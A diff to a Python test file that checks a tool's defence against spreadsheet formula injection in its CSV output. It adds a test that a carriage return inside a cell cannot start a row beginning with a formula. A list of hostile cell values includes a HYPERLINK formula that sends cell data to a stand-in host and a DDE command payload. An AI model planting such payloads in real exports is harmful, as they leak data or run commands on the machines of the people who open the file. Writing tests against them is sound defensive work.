@@ -12,7 +12,13 @@ from hypothesis import given
 from hypothesis import strategies as st
 from typer.testing import CliRunner
 
-from notereview._spreadsheet import FORMULA_STARTS, neutralise_formulas, restore_formulas
+from notereview._spreadsheet import (
+    FORMULA_STARTS,
+    neutralise_formulas,
+    read_output_csv,
+    restore_formulas,
+    write_output_csv,
+)
 from notereview.cli import app
 
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
@@ -33,6 +39,20 @@ def test_what_is_written_is_what_is_read_back(values):
     frame = pd.DataFrame({"text": values}, dtype=object)
     back = restore_formulas(neutralise_formulas(frame))
     assert back["text"].tolist() == frame["text"].tolist()
+
+
+def test_a_carriage_return_inside_a_cell_starts_no_row(tmp_path: Path):
+    """Found by the 10,000-row hostile extract: with LF line ends a lone CR in a record id was
+    written bare, and a spreadsheet began a new row at it whose first cell was ``=1+1``."""
+    frame = pd.DataFrame({"record_id": ["A \r=1+1", "B\n@SUM(1)", "C"], "n": [1, -2, 3]})
+    path = tmp_path / "q.csv"
+    write_output_csv(frame, path)
+    with path.open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.reader(fh))
+    assert rows == [["record_id", "n"], ["A \r=1+1", "1"], ["B\n@SUM(1)", "-2"], ["C", "3"]]
+    assert path.read_bytes().count(b"\r\n") == 4  # RFC 4180 line ends
+    back = read_output_csv(path, dtype={"record_id": object})
+    assert back["record_id"].tolist() == frame["record_id"].tolist()
 
 
 @pytest.mark.parametrize("workers", ["1", "2"])
